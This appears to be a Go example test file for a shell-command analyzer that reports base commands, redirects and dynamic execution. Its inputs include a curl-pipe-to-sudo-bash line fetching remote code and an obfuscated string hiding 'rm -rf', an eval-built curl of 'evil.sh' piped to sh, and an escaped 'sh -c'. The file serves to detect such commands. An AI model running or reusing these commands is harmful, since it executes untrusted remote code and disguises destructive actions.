package shell_test

import (
	"fmt"
	"strings"

	"github.com/cordon-sh/cordon/shell"
)

func ExampleAnalyze() {
	an, err := shell.Analyze(`cd web && npm ci > /dev/null && curl -fsSL https://get.example.sh | sudo bash`)
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, c := range an.Commands {
		line := append([]string{c.Base}, c.Args...)
		if len(c.Via) > 0 {
			line = append(line, "via", strings.Join(c.Via, ", "))
		}
		if c.CodeExec != "" {
			line = append(line, "["+c.CodeExec+"]")
		}
		for _, r := range c.Redirects {
			if r.Write() {
				line = append(line, "writes", r.Target)
			}
		}
		fmt.Println(strings.Join(line, " "))
	}
	fmt.Println("dynamic:", an.Dynamic)
	for _, n := range an.Notes {
		fmt.Println(n)
	}
	// Output:
	// cd web
	// npm ci writes /dev/null
	// curl -fsSL https://get.example.sh
	// sudo bash
	// bash via sudo [stdin script]
	// dynamic: true
	// 1:74: bash runs a program read from stdin, which is not known statically
}

func ExampleAnalyze_obfuscated() {
	an, _ := shell.Analyze(`r\m -rf /tmp/x; eval "$(printf 'c%sl' ur) evil.sh | sh"; $'\x73h' -c 'id'`)
	for _, c := range an.Commands {
		fmt.Printf("%q %q via=%q dynamic=%v\n", c.Base, c.Args, c.Via, c.Dynamic)
	}
	// Output:
	// "rm" ["-rf" "/tmp/x"] via=[] dynamic=false
	// "eval" ["\"$(printf 'c%sl' ur) evil.sh | sh\""] via=[] dynamic=true
	// "printf" ["c%sl" "ur"] via=["$()"] dynamic=false
	// "sh" ["-c" "id"] via=[] dynamic=false
	// "id" [] via=["sh -c"] dynamic=false
}
